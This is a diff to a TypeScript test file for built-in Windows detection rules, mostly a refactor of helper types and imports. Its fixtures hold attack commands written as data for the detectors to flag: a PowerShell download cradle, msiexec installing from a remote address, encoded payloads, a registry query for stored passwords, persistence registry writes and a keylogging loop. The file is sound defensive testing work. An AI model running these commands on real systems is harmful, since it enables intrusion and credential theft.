@@ -6,24 +6,17 @@ import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
 import type { JsonRecord } from '../event.js';
 import { analyzeEvents, analyzePaths } from '../analysis/analyze.js';
-import { at, makeEvent } from '../analysis/events.fixture.js';
 import { attackLookup } from '../../core/attack/lookup.js';
-import { loadSigmaRules, shippedRulesDir } from './index.js';
+import { builtinHits, builtinRules, windowsEvent, type Ev } from './builtin.fixture.js';
+import { loadSigmaRules } from './index.js';
 
-const builtin = loadSigmaRules({ sources: [{ name: 'rules-builtin', path: path.join(shippedRulesDir(), 'rules-builtin') }], minLevel: 'informational' });
+const builtin = builtinRules();
 const corpora = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..', '..', '..', 'shared', 'corpora');
 
-function win(t: number, channel: string, provider: string, eventId: number, data: JsonRecord, host = 'SRV01'): ReturnType<typeof makeEvent> {
-  return makeEvent({ time: at(t), host, action: 'windows.event', object: { type: 'log', name: channel }, attributes: { eventId, provider, channel, data } });
-}
+const win = windowsEvent;
+const hits = builtinHits;
 
-/** The built-in detections of some events: rule title → {level, tactics}. */
-function hits(events: ReturnType<typeof makeEvent>[]): Map<string, { level: string; tactics: readonly string[] }> {
-  const a = analyzeEvents(events, { sigma: builtin });
-  return new Map((a.detections?.summary() ?? []).map((d) => [d.title, { level: d.level, tactics: d.tactics }]));
-}
-
-const mssql = (t: number, text: string, eventId = 33205): ReturnType<typeof makeEvent> => win(t, 'Application', 'MSSQL$PROD', eventId, { Data: { '#text': text } });
+const mssql = (t: number, text: string, eventId = 33205): Ev => win(t, 'Application', 'MSSQL$PROD', eventId, { Data: { '#text': text } });
 
 describe('built-in Windows rules', () => {
   it('load without problems', () => {
@@ -49,7 +42,7 @@ describe('built-in Windows rules', () => {
   });
 
   it('OpenSSH, BITS, proxy changes and user rights', () => {
-    const ssh = (t: number, payload: string): ReturnType<typeof makeEvent> => win(t, 'OpenSSH/Operational', 'OpenSSH', 4, { process: 'sshd', payload });
+    const ssh = (t: number, payload: string): Ev => win(t, 'OpenSSH/Operational', 'OpenSSH', 4, { process: 'sshd', payload });
     const h = hits([
       ...Array.from({ length: 6 }, (_, i) => ssh(i, `Failed password for admin from 10.0.0.9 port ${5000 + i} ssh2`)),
       win(20, 'Microsoft-Windows-Bits-Client/Operational', 'Microsoft-Windows-Bits-Client', 3, { jobTitle: 'x', jobOwner: 'CORP\\bob', processPath: 'C:\\Windows\\System32\\bitsadmin.exe' }),
@@ -71,7 +64,7 @@ describe('built-in Windows rules', () => {
   });
 
   it('directory enumeration: 25 distinct objects read by one user in a minute is a burst, by a computer account none', () => {
-    const read = (t: number, user: string, i: number): ReturnType<typeof makeEvent> =>
+    const read = (t: number, user: string, i: number): Ev =>
       win(t, 'Security', 'Microsoft-Windows-Security-Auditing', 4662, { SubjectUserName: user, ObjectServer: 'DS', ObjectName: `%{0000000${i}-0000-0000-0000-000000000000}`, AccessList: '%%7688\r\n', AccessMask: '0x100' });
     const h = hits(Array.from({ length: 30 }, (_, i) => read(i, 'alice', i)));
     expect(h.get('Burst Of Directory Object Reads By One Account')?.tactics).toEqual(['discovery']);
@@ -81,13 +74,13 @@ describe('built-in Windows rules', () => {
 
   const SEC = ['Security', 'Microsoft-Windows-Security-Auditing'] as const;
   const SYSMON = ['Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon'] as const;
-  const proc = (t: number, image: string, commandLine: string, extra: JsonRecord = {}, host = 'SRV01'): ReturnType<typeof makeEvent> =>
+  const proc = (t: number, image: string, commandLine: string, extra: JsonRecord = {}, host = 'SRV01'): Ev =>
     win(t, ...SEC, 4688, { SubjectUserName: 'alice', NewProcessName: image, CommandLine: commandLine, ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', ...extra }, host);
-  const sysmon1 = (t: number, image: string, commandLine: string, extra: JsonRecord = {}): ReturnType<typeof makeEvent> =>
+  const sysmon1 = (t: number, image: string, commandLine: string, extra: JsonRecord = {}): Ev =>
     win(t, ...SYSMON, 1, { Image: image, CommandLine: commandLine, User: 'CORP\\alice', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ...extra });
-  const sec = (t: number, eventId: number, data: JsonRecord): ReturnType<typeof makeEvent> => win(t, ...SEC, eventId, data);
+  const sec = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SEC, eventId, data);
   /** Each event alone: the titles of its built-in hits. */
-  const titlesOf = (e: ReturnType<typeof makeEvent>): string[] => [...hits([e]).keys()];
+  const titlesOf = (e: Ev): string[] => [...hits([e]).keys()];
 
   it('process creation: remote-execution output, SQL clients, service ACLs, WSL, diskshadow, Defender, single-user SQL Server, setspn', () => {
     const S32 = 'C:\\Windows\\System32\\';
@@ -184,9 +177,9 @@ describe('built-in Windows rules', () => {
   });
 
   it('Sysmon, PowerShell, DNS server audit and Setup: accessibility files, one-shot services, drivers, RDP policy, BITS, encoded engines, DNS logging and plugins, WSL', () => {
-    const reg = (t: number, eventId: number, data: JsonRecord): ReturnType<typeof makeEvent> => win(t, ...SYSMON, eventId, data);
-    const ps = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
-    const engine = (t: number, hostApplication: string): ReturnType<typeof makeEvent> =>
+    const reg = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
+    const ps = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    const engine = (t: number, hostApplication: string): Ev =>
       win(t, 'Windows PowerShell', 'PowerShell', 400, { Data: { '#text': ['Available', 'None', `\tNewEngineState=Available\r\n\tHostApplication=${hostApplication}\r\n`] } });
     const h = hits([
       win(1, ...SYSMON, 11, { Image: 'C:\\Windows\\System32\\cmd.exe', TargetFilename: 'C:\\Windows\\System32\\sethc.exe' }),
@@ -252,7 +245,7 @@ describe('built-in Windows rules', () => {
 
   it('persistence, privilege escalation, evasion and credential access: registry locations, UAC bypasses, pipe tricks, log service, unmanaged PowerShell, credential stores', () => {
     const S32 = 'C:\\Windows\\System32\\';
-    const set = (t: number, target: string, details = 'C:\\Users\\bob\\a.dll', image = `${S32}reg.exe`): ReturnType<typeof makeEvent> =>
+    const set = (t: number, target: string, details = 'C:\\Users\\bob\\a.dll', image = `${S32}reg.exe`): Ev =>
       win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: target, Details: details });
     const h = hits([
       set(1, 'HKU\\S-1-5-21-1-2-3-1001_Classes\\CLSID\\{0000-1111}\\InprocServer32\\(Default)'),
@@ -310,7 +303,7 @@ describe('built-in Windows rules', () => {
 
   it('DCOM-activated script hosts, remote execution pipes, programmatic RDP, and a burst of RDP connections', () => {
     const S32 = 'C:\\Windows\\System32\\';
-    const rdp = (t: number): ReturnType<typeof makeEvent> =>
+    const rdp = (t: number): Ev =>
       win(t, 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational', 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', 131, { ConnType: 'TCP', ClientIP: `10.0.0.9:${50000 + t}` });
     const h = hits([
       sysmon1(1, `${S32}mshta.exe`, 'C:\\Windows\\System32\\mshta.exe -Embedding', { ParentImage: `${S32}svchost.exe` }),
@@ -368,7 +361,7 @@ describe('built-in Windows rules', () => {
 
   it('signed proxy programs and WMI process creation from command lines and PowerShell', () => {
     const S32 = 'C:\\Windows\\System32\\';
-    const ps = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    const ps = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
     const h = hits([
       sysmon1(1, `${S32}msiexec.exe`, 'msiexec /q /i http://203.0.113.9/a.msi'),
       sysmon1(2, `${S32}wbem\\WMIC.exe`, 'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"'),
@@ -385,9 +378,9 @@ describe('built-in Windows rules', () => {
 
   it('framework pipes, GPP files, audit and ETW tampering, AlwaysInstallElevated, service binPath, logon/boot/Active Setup entries, port scans', () => {
     const S32 = 'C:\\Windows\\System32\\';
-    const set = (t: number, target: string, details: string): ReturnType<typeof makeEvent> =>
+    const set = (t: number, target: string, details: string): Ev =>
       win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: target, Details: details });
-    const conn = (t: number, port: number, image = 'C:\\Users\\bob\\scan.exe'): ReturnType<typeof makeEvent> =>
+    const conn = (t: number, port: number, image = 'C:\\Users\\bob\\scan.exe'): Ev =>
       win(t, ...SYSMON, 3, { Image: image, Initiated: 'true', DestinationIp: '10.0.0.5', DestinationPort: port });
     const h = hits([
       win(1, ...SYSMON, 17, { Image: `${S32}rundll32.exe`, PipeName: '\\postex_1a2b' }),
@@ -449,7 +442,7 @@ describe('built-in Windows rules', () => {
   });
 
   it('obfuscated script blocks, SYSTEM-level privileges used by other programs, explicit-credential spraying, loopback NTLM logons, executables arriving over SMB', () => {
-    const ps = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    const ps = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
     const OBF = 'Obfuscated PowerShell In A Script Block (4104)';
     const obfuscated = [
       "& ( $PSHome[4]+$PSHome[30]+'x') ('Write-Host hi')",
@@ -471,7 +464,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(sec(23, 4673, { SubjectUserName: 'WS01$', PrivilegeList: 'SeTcbPrivilege', ProcessName: 'C:\\Agent\\agent.exe' }))).not.toContain(PRIV);
 
     const SPRAY = 'Explicit Credentials For Many Accounts From One Logon Session (password spraying)';
-    const explicit = (t: number, target: string, logon = '0x3069d'): ReturnType<typeof makeEvent> =>
+    const explicit = (t: number, target: string, logon = '0x3069d'): Ev =>
       sec(t, 4648, { SubjectUserName: 'alice', SubjectLogonId: logon, TargetUserName: target, TargetServerName: 'FS01', IpAddress: '10.0.0.5', IpPort: '445' });
     expect(hits(Array.from({ length: 12 }, (_, i) => explicit(30 + i, `user${i}`))).get(SPRAY)).toEqual({ level: 'high', tactics: ['credential-access'] });
     // One account many times, or nine accounts, is no spray.
@@ -479,7 +472,7 @@ describe('built-in Windows rules', () => {
     expect(hits(Array.from({ length: 9 }, (_, i) => explicit(30 + i, `user${i}`))).has(SPRAY)).toBe(false);
 
     const LOOP = 'NTLM Network Logon Of A Named Account From The Host Itself';
-    const logon = (t: number, extra: JsonRecord): ReturnType<typeof makeEvent> =>
+    const logon = (t: number, extra: JsonRecord): Ev =>
       sec(t, 4624, { LogonType: 3, AuthenticationPackageName: 'NTLM', TargetUserName: 'admin', TargetUserSid: 'S-1-5-21-1-2-3-1004', IpAddress: '127.0.0.1', ...extra });
     expect(hits([logon(50, {})]).get(LOOP)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
     expect(titlesOf(logon(51, { IpAddress: '10.0.0.9' }))).not.toContain(LOOP);
@@ -487,7 +480,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(logon(53, { AuthenticationPackageName: 'Kerberos' }))).not.toContain(LOOP);
 
     const SMB = 'Executable Written By The System Process (file copied in over SMB)';
-    const file = (t: number, image: string, target: string): ReturnType<typeof makeEvent> => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
+    const file = (t: number, image: string, target: string): Ev => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
     expect(hits([file(60, 'System', 'C:\\Windows\\payload.exe')]).get(SMB)).toEqual({ level: 'medium', tactics: ['lateral-movement', 'command-and-control'] });
     expect(titlesOf(file(61, 'System', 'C:\\Windows\\SoftwareDistribution\\Download\\x\\setup.exe'))).not.toContain(SMB);
     expect(titlesOf(file(62, 'System', 'C:\\Users\\bob\\Documents\\report.docx'))).not.toContain(SMB);
@@ -498,8 +491,8 @@ describe('built-in Windows rules', () => {
     const S32 = 'C:\\Windows\\System32\\';
     const ASEP = 'Auto-Start Registry Location Written From The Command Line';
     const WEAK = 'Registry Value That Weakens Or Hides Windows Defences Written From The Command Line';
-    const ps = (t: number, command: string): ReturnType<typeof makeEvent> => sysmon1(t, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, `"powershell.exe" & {${command}}`);
-    const reg = (t: number, args: string): ReturnType<typeof makeEvent> => proc(t, `${S32}reg.exe`, `reg add ${args}`);
+    const ps = (t: number, command: string): Ev => sysmon1(t, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, `"powershell.exe" & {${command}}`);
+    const reg = (t: number, args: string): Ev => proc(t, `${S32}reg.exe`, `reg add ${args}`);
     expect(hits([reg(1, '"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe" /v Debugger /d cmd.exe /f')]).get(ASEP)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
     expect(titlesOf(ps(2, 'Set-ItemProperty "HKCU:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\" "Userinit" "Userinit.exe, C:\\x\\a.exe" -Force'))).toContain(ASEP);
     expect(titlesOf(ps(3, `Set-ItemProperty -Path 'HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' -Name 'Shell' -Value 'explorer.exe, a.exe'`))).toContain(ASEP);
@@ -538,7 +531,7 @@ describe('built-in Windows rules', () => {
     const TASK = 'Scheduled Task Created Or Changed From PowerShell';
     expect(hits([sysmon1(1, PS, '"powershell.exe" & {$a = New-ScheduledTaskAction -Execute calc.exe; Register-ScheduledTask -TaskName t -Action $a}')]).get(TASK)).toEqual({ level: 'low', tactics: ['execution', 'persistence', 'privilege-escalation'] });
     expect(titlesOf(sysmon1(2, PS, 'powershell.exe -c "Get-ScheduledTask | Select-Object TaskName"'))).not.toContain(TASK);
-    const block = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    const block = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
     expect(titlesOf(block(3, "Invoke-CimMethod -ClassName PS_ScheduledTask -Namespace Root\\Microsoft\\Windows\\TaskScheduler -MethodName RegisterByXml"))).toContain(`${TASK} (script block 4104)`);
     expect(titlesOf(block(4, 'function Register-ScheduledTask { [CmdletBinding()] param() }'))).not.toContain(`${TASK} (script block 4104)`);
     const START = 'Startup Folder Named On A Command Line';
@@ -576,7 +569,7 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(proc(6, PS, "powershell.exe -c Invoke-PPIDSpoof -Process notepad.exe -ParentId 4242"))).toContain(TOKEN);
     expect(titlesOf(proc(27, PS, "powershell.exe -c Start-ATHProcessUnderSpecificParent -ParentId 4242"))).not.toContain(TOKEN);
     expect(titlesOf(proc(7, PS, 'powershell.exe -c Get-SystemInfo | Out-File x.txt'))).not.toContain(TOKEN);
-    const block = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    const block = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
     expect(titlesOf(block(8, 'Get-WinlogonTokenSystem'))).toContain(`${TOKEN} (script block 4104)`);
     const DSRM = 'DSRM Administrator Password Set With ntdsutil';
     expect(hits([proc(9, `${S32}ntdsutil.exe`, 'ntdsutil "set dsrm password" "sync from domain account admin" "q" "q"')]).get(DSRM)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
@@ -692,16 +685,16 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(sec(11, 4781, { OldTargetUserName: 'bob', NewTargetUserName: 'Guest ', SubjectUserName: 'alice' }))).toContain(SPACE);
   });
 
-  const sysmon = (t: number, eventId: number, data: JsonRecord): ReturnType<typeof makeEvent> => win(t, ...SYSMON, eventId, data);
+  const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
 
   it('discovery tools on the network (Sysmon 3, low), PowerShell logging switched off with binary data (high), execution policy set to Bypass/Unrestricted (low); near misses are not', () => {
     const S32 = 'C:\\Windows\\System32\\';
     const DISC = 'Network Connection By A Discovery Or Scanning Tool (Sysmon 3)';
-    const net3 = (t: number, image: string): ReturnType<typeof makeEvent> => sysmon(t, 3, { Image: image, Protocol: 'udp', Initiated: 'true', DestinationIp: '10.0.0.1', DestinationPort: '53', User: 'CORP\\bob' });
+    const net3 = (t: number, image: string): Ev => sysmon(t, 3, { Image: image, Protocol: 'udp', Initiated: 'true', DestinationIp: '10.0.0.1', DestinationPort: '53', User: 'CORP\\bob' });
     expect(hits([net3(1, `${S32}nslookup.exe`)]).get(DISC)).toEqual({ level: 'low', tactics: ['discovery'] });
     expect(titlesOf(net3(2, `${S32}systeminfo.exe`))).toContain(DISC);
     expect(titlesOf(net3(3, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'))).not.toContain(DISC);
-    const reg = (t: number, key: string, details: string): ReturnType<typeof makeEvent> => sysmon(t, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: key, Details: details, User: 'CORP\\bob' });
+    const reg = (t: number, key: string, details: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: key, Details: details, User: 'CORP\\bob' });
     const PSP = 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\';
     const OFF = 'PowerShell Logging Disabled In The Registry (Sysmon 12/13)';
     expect(hits([reg(4, `${PSP}ScriptBlockLogging\\EnableScriptBlockLogging`, 'Binary Data')]).get(OFF)).toEqual({ level: 'high', tactics: ['defense-impairment'] });
@@ -742,7 +735,7 @@ describe('built-in Windows rules', () => {
   it('Sysmon network, DNS and image loads: DCOM hosts, SMB from user programs, LDAP from scripts, proxy binaries, host sweeps, side-loaded system DLL names, PowerShell logging keys deleted; near misses are not', () => {
     const S32 = 'C:\\Windows\\System32\\';
     const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
-    const net = (t: number, image: string, port: number, extra: JsonRecord = {}): ReturnType<typeof makeEvent> =>
+    const net = (t: number, image: string, port: number, extra: JsonRecord = {}): Ev =>
       sysmon(t, 3, { Image: image, DestinationPort: port, DestinationIp: '10.0.0.5', SourceIp: '10.0.0.20', Initiated: 'true', Protocol: 'tcp', ...extra });
     const DCOM = 'Inbound Network Connection To A DCOM Lateral Movement Host Process (Sysmon 3)';
     expect(hits([net(1, 'C:\\Windows\\explorer.exe', 49678, { Initiated: 'false' })]).get(DCOM)).toEqual({ level: 'medium', tactics: ['lateral-movement'] });
@@ -784,7 +777,7 @@ describe('built-in Windows rules', () => {
     expect(row).toMatchObject({ level: 'informational', techniques: ['T1003.001'], tactics: ['credential-access'] });
     expect(titlesOf(sysmon(2, 10, { RuleName: '-', SourceImage: 'C:\\Program Files\\App\\app.exe', TargetImage: `${S32}notepad.exe`, GrantedAccess: '0x1000' }))).not.toContain(LABEL);
     expect(titlesOf(sysmon(3, 13, { RuleName: '', EventType: 'SetValue', Image: 'C:\\Program Files\\App\\app.exe', TargetObject: 'HKLM\\SOFTWARE\\App\\x', Details: '1' }))).not.toContain(LABEL);
-    const p1 = (t: number, image: string, ofn: string | null, cmd: string): ReturnType<typeof makeEvent> =>
+    const p1 = (t: number, image: string, ofn: string | null, cmd: string): Ev =>
       sysmon(t, 1, { Image: image, ...(ofn === null ? {} : { OriginalFileName: ofn }), CommandLine: cmd, ParentImage: 'C:\\Windows\\explorer.exe', User: 'CORP\\bob', IntegrityLevel: 'Medium' });
     const LOLBIN = 'Proxy Or Admin Binary Run Under Another Name';
     expect(hits([p1(4, 'C:\\Users\\Public\\ck.exe', 'cmdkey.exe', 'ck.exe /list')]).get(LOLBIN)).toEqual({ level: 'high', tactics: ['stealth'] });
@@ -807,7 +800,7 @@ describe('built-in Windows rules', () => {
     expect(hits([sysmon(17, 9, { Image: `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, Device: '\\Device\\HarddiskVolume2' })]).get(RAW)).toEqual({ level: 'medium', tactics: ['stealth'] });
     expect(titlesOf(sysmon(18, 9, { Image: `${S32}svchost.exe`, Device: '\\Device\\HarddiskVolume2' }))).not.toContain(RAW);
     const DRV = 'Unsigned Or Invalidly Signed Driver Loaded (Sysmon 6)';
-    const drv = (t: number, signed: string, status: string | null): ReturnType<typeof makeEvent> =>
+    const drv = (t: number, signed: string, status: string | null): Ev =>
       sysmon(t, 6, { ImageLoaded: `${S32}drivers\\x.sys`, Signed: signed, Signature: 'Vendor', ...(status === null ? {} : { SignatureStatus: status }) });
     expect(hits([drv(19, 'true', 'Bad Digest')]).get(DRV)?.level).toBe('high');
     expect(titlesOf(drv(20, 'true', 'Revoked'))).toContain(DRV);
@@ -859,16 +852,16 @@ describe('built-in Windows rules', () => {
     const SESS = 'Logged-On User Or Directory Discovery Tool Run';
     expect(hits([sysmon1(25, 'C:\\Tools\\x.exe', 'x.exe \\\\DC01', { OriginalFileName: 'PsLoggedon.exe' })]).get(SESS)).toEqual({ level: 'low', tactics: ['discovery'] });
     expect(titlesOf(sysmon1(26, 'C:\\Tools\\PsList.exe', 'pslist.exe'))).not.toContain(SESS);
-    const module = (t: number, payload: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe', Payload: payload });
+    const module = (t: number, payload: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe', Payload: payload });
     const CRADLE = 'PowerShell Downloads And Runs Code (module logging 4103)';
     expect(hits([module(27, 'CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): name="Command"; value="(New-Object Net.WebClient).DownloadString(\'http://x/a\')"')]).get(CRADLE)).toEqual({ level: 'high', tactics: ['execution', 'command-and-control'] });
     expect(titlesOf(module(28, 'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\nParameterBinding(Invoke-WebRequest): name="Uri"; value="https://example.org/status"'))).not.toContain(CRADLE);
-    const classic = (t: number, hostApplication: string, engine: string): ReturnType<typeof makeEvent> =>
+    const classic = (t: number, hostApplication: string, engine: string): Ev =>
       win(t, 'Windows PowerShell', 'PowerShell', 400, { Data: { '#text': ['Available', 'None', `\tNewEngineState=Available\r\n\tHostVersion=5.1\r\n\tEngineVersion=${engine}\r\n\tHostApplication=${hostApplication}\r\n`] } });
     const ENGINE2 = 'PowerShell 2.0 Engine Started By Request (classic 400)';
     expect(hits([classic(29, 'powershell.exe -version 2 -nop', '2.0')]).get(ENGINE2)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
     expect(titlesOf(classic(30, 'powershell.exe -nop', '5.1.19041.1'))).not.toContain(ENGINE2);
-    const block = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    const block = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
     const AD = 'PowerShell Active Directory Discovery (script block 4104)';
     expect(titlesOf(block(31, '$s = [adsisearcher]"(objectCategory=computer)"; $s.FindAll()'))).toContain(AD);
     expect(titlesOf(block(32, 'Get-ChildItem C:\\Logs'))).not.toContain(AD);
@@ -886,7 +879,7 @@ describe('built-in Windows rules', () => {
   it('keyloggers, credential dumping functions and log clearing in PowerShell, spooler driver DLLs, WMI registry writes, ransom notes, remote services and tasks, WinRM shells, remote execution services, curl uploads; near misses are not', () => {
     const S32 = 'C:\\Windows\\System32\\';
     const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
-    const block = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
+    const block = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
     const KEY = 'PowerShell Keyboard Capture API (script block 4104)';
     expect(hits([block(1, 'for ($c = 1; $c -le 254; $c++) { $s = [API.Win32]::GetAsyncKeyState($c) }')]).get(KEY)).toEqual({ level: 'medium', tactics: ['credential-access', 'collection'] });
     expect(titlesOf(block(2, 'Get-Process | Where-Object { $_.MainWindowTitle }'))).not.toContain(KEY);
@@ -927,7 +920,7 @@ describe('built-in Windows rules', () => {
   it('script hosts on the network, WinRM and RDP from unusual programs, self-deleting command lines, DLLs written into System32, PowerShell remoting sessions, WMI providers from user folders, encoded payloads in registry values, task files, passwords searched in files and the registry; near misses are not', () => {
     const S32 = 'C:\\Windows\\System32\\';
     const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
-    const net = (t: number, image: string, port: number): ReturnType<typeof makeEvent> =>
+    const net = (t: number, image: string, port: number): Ev =>
       sysmon(t, 3, { Image: image, DestinationPort: port, DestinationIp: '10.0.0.5', SourceIp: '10.0.0.20', Initiated: 'true', Protocol: 'tcp' });
     const SCRIPT = 'Network Connection From PowerShell Or A Script Host (Sysmon 3)';
     expect(hits([net(1, PS, 8080)]).get(SCRIPT)).toEqual({ level: 'low', tactics: ['command-and-control'] });
@@ -944,12 +937,12 @@ describe('built-in Windows rules', () => {
     expect(hits([sysmon(9, 11, { Image: `${S32}cmd.exe`, TargetFilename: `${S32}wlbsctrl.dll` })]).get(DLL)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'stealth'] });
     expect(titlesOf(sysmon(10, 11, { Image: `${S32}msiexec.exe`, TargetFilename: `${S32}vendor.dll` }))).not.toContain(DLL);
     expect(titlesOf(sysmon(11, 11, { Image: `${S32}cmd.exe`, TargetFilename: `${S32}DriverStore\\FileRepository\\x\\x.dll` }))).not.toContain(DLL);
-    const module = (t: number, context: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: context, Payload: 'CommandInvocation(Get-Process): "Get-Process"' });
+    const module = (t: number, context: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: context, Payload: 'CommandInvocation(Get-Process): "Get-Process"' });
     const REMOTING = 'PowerShell Remoting Session On This Host (module logging 4103)';
     expect(hits([module(12, '        Host Name = ServerRemoteHost\r\n        Host Application = C:\\Windows\\system32\\wsmprovhost.exe -Embedding\r\n')]).get(REMOTING)).toEqual({ level: 'low', tactics: ['execution', 'lateral-movement'] });
     expect(titlesOf(module(13, '        Host Name = ConsoleHost\r\n        Host Application = powershell.exe\r\n'))).not.toContain(REMOTING);
     const ENC = 'Registry Value Holding An Encoded PowerShell Command Or Program (Sysmon 13)';
-    const set = (t: number, details: string): ReturnType<typeof makeEvent> => sysmon(t, 13, { EventType: 'SetValue', Image: PS, TargetObject: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\Debug', Details: details });
+    const set = (t: number, details: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: PS, TargetObject: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\Debug', Details: details });
     expect(hits([set(16, 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA')]).get(ENC)).toEqual({ level: 'medium', tactics: ['stealth'] });
     expect(titlesOf(set(17, 'powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcA'))).toContain(ENC);
     expect(titlesOf(set(18, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -File C:\\Scripts\\inventory.ps1'))).not.toContain(ENC);
@@ -962,7 +955,7 @@ describe('built-in Windows rules', () => {
     const REGPW = 'Registry Queried For Stored Passwords';
     expect(hits([proc(23, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\Currentversion\\Winlogon" /v DefaultPassword')]).get(REGPW)).toEqual({ level: 'medium', tactics: ['credential-access'] });
     expect(titlesOf(proc(24, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\Currentversion\\Winlogon" /v DefaultUserName'))).not.toContain(REGPW);
-    const wmi = (t: number, path: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-WMI-Activity/Operational', 'Microsoft-Windows-WMI-Activity', 5857, { ProviderName: 'P', Code: '0x0', HostProcess: 'wmiprvse.exe', ProcessID: '1234', ProviderPath: path });
+    const wmi = (t: number, path: string): Ev => win(t, 'Microsoft-Windows-WMI-Activity/Operational', 'Microsoft-Windows-WMI-Activity', 5857, { ProviderName: 'P', Code: '0x0', HostProcess: 'wmiprvse.exe', ProcessID: '1234', ProviderPath: path });
     const PROV = 'WMI Provider Loaded From A User-Writable Folder';
     expect(hits([wmi(14, 'C:\\Users\\Public\\p.dll')]).get(PROV)).toEqual({ level: 'medium', tactics: ['execution', 'persistence'] });
